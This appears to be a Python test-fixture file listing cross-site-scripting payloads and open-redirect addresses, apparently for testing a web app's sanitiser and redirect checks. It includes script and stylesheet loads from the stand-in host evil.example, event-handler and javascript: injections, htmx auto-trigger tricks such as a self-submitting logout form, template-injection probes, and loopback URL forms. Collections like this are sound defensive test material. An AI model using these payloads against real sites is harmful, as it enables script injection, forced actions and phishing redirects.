"""Texts that try to run, load, send or break out; and addresses that try to lead away."""

MARK = "zzrun"
XSS = [text.replace("RUN", MARK) for text in (
    "<script>RUN()</script>", "</script><script>RUN()</script>", "<ScRiPt>RUN()</sCrIpT>", "<script src=//evil.example/RUN></script>",
    "<script/RUN>RUN()</script>", "<script\x0cRUN>RUN()</script>", "<<script>RUN()//<</script>", "<script>RUN()", "<svg><script>RUN()</script>",
    "<img src=x onerror=RUN()>", "<img src=x onerror='RUN()'>", "<IMG SRC=x OnErRoR=RUN()>", "<img/src=x/onerror=RUN()>",
    "<img src=`x` onerror=RUN()>", "<img src=x:x onerror=RUN()//", "\"><img src=x onerror=RUN()>", "'><img src=x onerror=RUN()>",
    "</textarea><img src=x onerror=RUN()>", "</title><img src=x onerror=RUN()>", "</style><img src=x onerror=RUN()>",
    "--><img src=x onerror=RUN()>", "]]><img src=x onerror=RUN()>", "</template><img src=x onerror=RUN()>", "</option></select><img src=x onerror=RUN()>",
    "\" onmouseover=RUN() x=\"", "' onmouseover=RUN() x='", "\" autofocus onfocus=RUN() \"", " onfocus=RUN() autofocus ", "` onmouseover=RUN() `",
    "<svg onload=RUN()>", "<svg/onload=RUN()>", "<svg><animate onbegin=RUN() attributeName=x>", "<svg><a xlink:href=javascript:RUN()>x</a></svg>",
    "<math><mtext><img src=x onerror=RUN()></math>", "<body onload=RUN()>", "<iframe src=javascript:RUN()>", "<iframe srcdoc='<script>RUN()</script>'>",
    "<object data=javascript:RUN()>", "<embed src=javascript:RUN()>", "<a href=javascript:RUN()>x</a>", "<a href='java\tscript:RUN()'>x</a>",
    "<a href=data:text/html,RUN>x</a>", "<form action=javascript:RUN()><button>x</button></form>", "<button formaction=javascript:RUN()>x</button>",
    "<input onfocus=RUN() autofocus>", "<select onfocus=RUN() autofocus>", "<video><source onerror=RUN()></video>", "<audio src=x onerror=RUN()>",
    "<details open ontoggle=RUN()>", "<marquee onstart=RUN()>", "<meta http-equiv=refresh content='0;url=//evil.example/RUN'>",
    "<base href=//evil.example/RUN/>", "<link rel=stylesheet href=//evil.example/RUN>", "<style>@import '//evil.example/RUN'</style>",
    "<div style=background:url(//evil.example/RUN)>", "<p hx-get=/RUN hx-trigger=load>x</p>", "<p data-hx-get=/RUN data-hx-trigger=load>x</p>",
    "<p hx-on::load=RUN()>x</p>", "<p hx-on:click=RUN()>x</p>", "<p hx-vals='js:{a:RUN()}'>x</p>", "<p hx-trigger='load[RUN()]' hx-get=/>x</p>",
    "\" hx-get=\"/RUN\" hx-trigger=\"load\" x=\"", "' hx-get='/RUN' hx-trigger='load' x='", "<div hx-swap-oob=innerHTML:#main>RUN</div>",
    "<div id=RUN hx-swap-oob=true>x</div>", "<form hx-post=/accounts/logout/ hx-trigger=load id=RUN></form>", "<div hx-ext=RUN>x</div>",
    "{{ RUN }}{% load RUN %}", "{{7*7}}${RUN()}#{RUN()}", "&lt;script&gt;RUN()&lt;/script&gt;", "&#60;script&#62;RUN()&#60;/script&#62;",
    "\u2028<script>RUN()</script>\u2029", "\ufeff<script>RUN()</script>", "<a\u00a0href=javascript:RUN()>x</a>", "<x\x0bonclick=RUN()>x</x>",
)]  # fmt: skip

AWAY = [
    "https://evil.example/", "http://evil.example", "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example",
    "\\/evil.example", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example", "\t//evil.example", " //evil.example", "https:evil.example",
    "https:/evil.example", "http:///evil.example", "http:\\\\evil.example", "https:///evil.example/", "//evil.example@testserver", "//testserver@evil.example",
    "https://testserver@evil.example/", "https://testserver.evil.example/", "//testserver.evil.example", "http://evil.example#testserver",
    "http://evil.example?testserver", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>1</script>",
    "vbscript:x", "ftp://evil.example/", "//evil%2eexample", "//%65vil.example", "https://evil.example%00.testserver/", "//\u3002evil.example",
    "https://evil\u3002example/", "/%09/evil.example", "/%5cevil.example", "//evil.example:80", "//[::1]/", "http://0x7f000001/", "http://2130706433/",
]  # fmt: skip
